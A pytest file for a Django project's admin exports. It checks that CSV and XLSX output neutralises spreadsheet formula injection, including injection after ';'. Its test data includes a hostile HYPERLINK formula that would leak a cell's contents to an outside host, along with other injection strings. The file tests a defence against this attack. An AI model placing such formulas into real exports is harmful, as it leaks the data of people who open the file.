"""Every export is opened in a spreadsheet: no cell may run as a formula there.

Django's admin exports (django-import-export) and the reports' exports go
through one neutraliser. A Dutch spreadsheet splits a CSV line at ``;`` as
well as at ``,``, so a formula after a ``;`` inside a text is neutralised too.
"""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin

from burgerbaan.exports import SafeExportAdminMixin, neutralise
from tests.factories import BurgerbanerFactory, OrganisationFactory, UserFactory
from tests.helpers import log_in

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://example.org/?leak="&A1;"klik")'


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Jansen; =1+1", "Jansen; '=1+1"),
        ("a;=1+1;  @x", "a;'=1+1;  '@x"),
        ("regel\n=1+1", "regel\n'=1+1"),
        ("Marktstraat 1; 1311 AB", "Marktstraat 1; 1311 AB"),
        ("Fatima el Amrani", "Fatima el Amrani"),
        ("e-mail: a@b.nl", "e-mail: a@b.nl"),
        ("-12.50", "-12.50"),  # a plain number stays a number
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(text, safe):
    assert neutralise(text) == safe


def test_numbers_and_empty_cells_stay_what_they_are():
    from decimal import Decimal

    for value in (Decimal("-5.00"), -3, 2.5, None, True):
        assert neutralise(value) is value


def _export_admins():
    return [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]


def test_every_admin_export_goes_through_the_neutraliser():
    exporting = _export_admins()
    assert exporting, "expected Django's admin to export something"
    for model_admin in exporting:
        assert isinstance(model_admin, SafeExportAdminMixin), type(model_admin).__name__


def admin_export(client, model, fmt: str) -> bytes:
    """Export every row of ``model`` through its page in Django's admin."""
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    form = client.get(url).context["form"]
    formats = [choice for choice in form.fields["format"].choices if choice[0] != ""]
    index = next(value for value, label in formats if label.lower() == fmt)
    data = {"format": index, "resource": "0"}
    data.update(
        {
            name: "on"
            for name, field in form.fields.items()
            if getattr(field, "is_selectable_field", False)
        }
    )
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def _evil_burgerbaner():
    BurgerbanerFactory(street=EVIL, city="Almere; =1+1")
    return ["'" + EVIL, "Almere; '=1+1"]


def _evil_organisation():
    OrganisationFactory(name=EVIL, address="Markt 1;@SUM(A1)")
    return ["'" + EVIL, "Markt 1;'@SUM(A1)"]


def _evil_user():
    UserFactory(name=EVIL, email="x@example.org")
    return ["'" + EVIL]


# What each admin exports, with a hostile text in it, and how it must come out.
MAKERS = {
    "burgerbaner": _evil_burgerbaner,
    "organisation": _evil_organisation,
    "user": _evil_user,
}


@pytest.mark.parametrize("model_admin", _export_admins(), ids=lambda a: a.model._meta.model_name)
def test_admin_csv_and_xlsx_exports_carry_no_formulas(client, admin_user, model_admin):
    model = model_admin.model
    expected = MAKERS[model._meta.model_name]()
    log_in(client, admin_user)

    rows = list(csv.DictReader(io.StringIO(admin_export(client, model, "csv").decode("utf-8"))))
    row = next(row for row in rows if EVIL[1:] in "".join(row.values()))
    for value in expected:
        assert value in row.values()
    for value in row.values():
        for part in value.split(";"):
            assert not part.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), value

    book = openpyxl.load_workbook(io.BytesIO(admin_export(client, model, "xlsx")))
    sheet = book.active
    assert sheet.title == str(model._meta.verbose_name_plural)  # not "Tablib Dataset"
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert all(cell.data_type != "f" for cell in cells)
    for value in expected:
        assert value in [cell.value for cell in cells]
